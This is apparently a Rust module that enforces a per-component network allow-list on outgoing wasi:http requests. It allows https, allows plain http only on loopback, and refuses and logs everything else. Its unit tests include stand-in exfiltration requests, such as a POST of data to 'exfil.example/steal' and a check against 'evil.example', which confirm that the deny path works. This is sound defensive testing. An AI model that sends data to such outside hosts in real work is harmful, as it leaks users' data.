//! The network policy: which origins a component may reach, enforced on every
//! outgoing `wasi:http` request.
//!
//! A component names the origins it needs in `source-info`, derived from the
//! user's configuration. The host accepts `https://` origins, and `http://`
//! origins only on loopback addresses; every request to anything else is
//! refused with `HttpRequestDenied` and a log line naming the destination.
//! Allowed requests are sent by [`crate::egress`].

use std::fmt;
use std::net::IpAddr;
use std::time::Duration;
use wasmtime_wasi_http::{RequestOptions, WasiBody, WasiHttpHooks};

/// `scheme://host:port`, lower-cased, with the port always explicit.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Origin {
    pub scheme: String,
    pub host: String,
    pub port: u16,
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}://{}:{}", self.scheme, self.host, self.port)
    }
}

impl Origin {
    /// Parses `scheme://host[:port][/...]`.
    pub fn parse(url: &str) -> Result<Origin, String> {
        let uri: http::Uri = url.parse().map_err(|e| format!("`{url}` is not a URL: {e}"))?;
        Origin::from_uri(&uri).ok_or_else(|| format!("`{url}` must be an absolute http:// or https:// URL"))
    }

    fn from_uri(uri: &http::Uri) -> Option<Origin> {
        let scheme = uri.scheme_str()?.to_ascii_lowercase();
        let port = uri.port_u16().or(match scheme.as_str() {
            "https" => Some(443),
            "http" => Some(80),
            _ => None,
        })?;
        let host = uri.host()?.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase();
        Some(Origin { scheme, host, port })
    }

    pub fn is_loopback(&self) -> bool {
        self.host == "localhost" || self.host.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
    }
}

/// The origins one component may reach.
#[derive(Clone, Debug, Default)]
pub struct AllowList {
    origins: Vec<Origin>,
}

impl AllowList {
    /// Checks and accepts the origins a component asked for. Plain `http://`
    /// is refused unless the host is a loopback address.
    pub fn new(requested: &[String]) -> Result<AllowList, String> {
        let mut origins = Vec::new();
        for url in requested {
            let origin = Origin::parse(url)?;
            match origin.scheme.as_str() {
                "https" => {}
                "http" if origin.is_loopback() => {}
                "http" => {
                    return Err(format!(
                        "`{url}` uses plain http://, which is allowed only for loopback addresses; use https://"
                    ));
                }
                other => return Err(format!("`{url}`: the scheme `{other}` is not supported")),
            }
            if !origins.contains(&origin) {
                origins.push(origin);
            }
        }
        Ok(AllowList { origins })
    }

    pub fn allows(&self, origin: &Origin) -> bool {
        self.origins.contains(origin)
    }

    pub fn origins(&self) -> &[Origin] {
        &self.origins
    }
}

/// The longest a request may wait for its answer to begin, whatever the
/// component asks for; Graph itself gives up on a query after 3 minutes.
const MAX_FIRST_BYTE: Duration = Duration::from_secs(300);

/// The `wasi:http` hooks that enforce the allow-list; allowed requests leave
/// through `egress`.
pub struct Policy {
    pub allow: AllowList,
    pub egress: crate::egress::Egress,
}

impl WasiHttpHooks for Policy {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        fut: Box<dyn Future<Output = Result<(), wasmtime_wasi_http::Error>> + Send>,
    ) -> Box<
        dyn Future<
                Output = wasmtime_wasi_http::Result<(
                    http::Response<WasiBody>,
                    Box<dyn Future<Output = Result<(), wasmtime_wasi_http::Error>> + Send>,
                )>,
            > + Send,
    > {
        let _ = fut;
        let origin = Origin::from_uri(request.uri());
        let allowed = origin.as_ref().is_some_and(|o| self.allow.allows(o));
        if !allowed {
            let target = origin.map_or_else(|| request.uri().to_string(), |o| o.to_string());
            tracing::warn!(
                destination = %target,
                "refused an outgoing request from the component: {target} is not one of the configured endpoints"
            );
            return Box::new(async move {
                // Read the body the guest is streaming before refusing, so the
                // guest sees HttpRequestDenied and not a reset stream.
                use http_body_util::BodyExt;
                let _ = request.into_body().collect().await;
                Err(wasmtime_wasi_http::Error::HttpRequestDenied)
            });
        }
        let first_byte = crate::egress::first_byte_timeout(options.as_ref(), MAX_FIRST_BYTE);
        let loopback = origin.is_some_and(|o| o.is_loopback());
        let egress = self.egress.clone();
        Box::new(async move {
            let response = egress.send(request, loopback, first_byte).await?;
            Ok((response, Box::new(async { Ok(()) }) as Box<dyn Future<Output = _> + Send>))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_http_only_on_loopback() {
        assert!(AllowList::new(&["http://127.0.0.1:8080".into(), "http://[::1]:1".into(), "http://localhost".into()]).is_ok());
        let e = AllowList::new(&["http://graph.microsoft.com".into()]).unwrap_err();
        assert!(e.contains("loopback"), "{e}");
        assert!(AllowList::new(&["ftp://x".into()]).is_err());
    }

    /// The hook itself, with a real request and body: an unlisted host is
    /// refused with HttpRequestDenied, and nothing is sent anywhere.
    #[test]
    fn an_unlisted_host_is_denied() {
        use http_body_util::{BodyExt, Full};
        let mut policy = Policy {
            allow: AllowList::new(&["https://graph.microsoft.com".into()]).unwrap(),
            egress: crate::egress::Egress::default(),
        };
        let body = Full::new(bytes::Bytes::from_static(b"{\"Query\":\"x\"}"))
            .map_err(|never| match never {})
            .boxed_unsync();
        let request = http::Request::post("https://exfil.example/steal").body(body).unwrap();
        let future = policy.send_request(request, None, Box::new(async { Ok(()) }));
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let result = runtime.block_on(Box::into_pin(future));
        assert!(matches!(result, Err(wasmtime_wasi_http::Error::HttpRequestDenied)));
    }

    #[test]
    fn origins_compare_with_default_ports_and_case() {
        let allow = AllowList::new(&["https://Graph.Microsoft.com".into()]).unwrap();
        assert!(allow.allows(&Origin::parse("https://graph.microsoft.com:443/v1.0/x").unwrap()));
        assert!(!allow.allows(&Origin::parse("http://graph.microsoft.com/").unwrap()));
        assert!(!allow.allows(&Origin::parse("https://graph.microsoft.com:8443/").unwrap()));
        assert!(!allow.allows(&Origin::parse("https://evil.example/").unwrap()));
    }
}
